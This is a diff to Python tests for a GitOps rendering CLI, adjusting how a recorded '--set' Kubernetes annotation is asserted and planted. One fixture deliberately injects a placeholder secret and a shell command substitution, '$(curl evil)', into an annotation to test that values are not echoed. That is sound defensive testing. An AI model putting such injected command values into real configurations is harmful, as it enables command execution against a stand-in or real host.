@@ -222,9 +222,10 @@ def test_a_render_with_set_says_so_and_check_names_what_a_plain_render_would_dro
     assert rendered_with.exit_code == 0, rendered_with.output
     assert "--set is recorded" in rendered_with.stderr
     kustomization = YAML(typ="safe").load((out / "lab" / "kustomization.yaml").read_text())
-    assert kustomization["metadata"]["annotations"] == {
-        "gpustack.dev/set": "--set devicePlugin.sharing.strategy=time-slicing"
-    }
+    assert (
+        kustomization["metadata"]["annotations"]["gpustack.dev/set"]
+        == "--set devicePlugin.sharing.strategy=time-slicing"
+    )
     # kustomize reads past a Kustomization's own metadata: the folder builds as before.
     from gitops_helpers import kustomize
 
@@ -257,10 +258,11 @@ def test_check_names_recorded_set_fields_but_never_a_committed_value(cli, tmp_pa
     assert cli("render", config, "-o", out).exit_code == 0
     kustomization = out / "lab" / "kustomization.yaml"
     text = kustomization.read_text()
+    assert "  annotations:\n" in text
     kustomization.write_text(
         text.replace(
-            "kind: Kustomization\n",
-            "kind: Kustomization\nmetadata:\n  annotations:\n    gpustack.dev/set: "
+            "  annotations:\n",
+            "  annotations:\n    gpustack.dev/set: "
             "\"--set images.registry=TOPSECRET --set '$(curl evil)=x'\"\n",
         )
     )
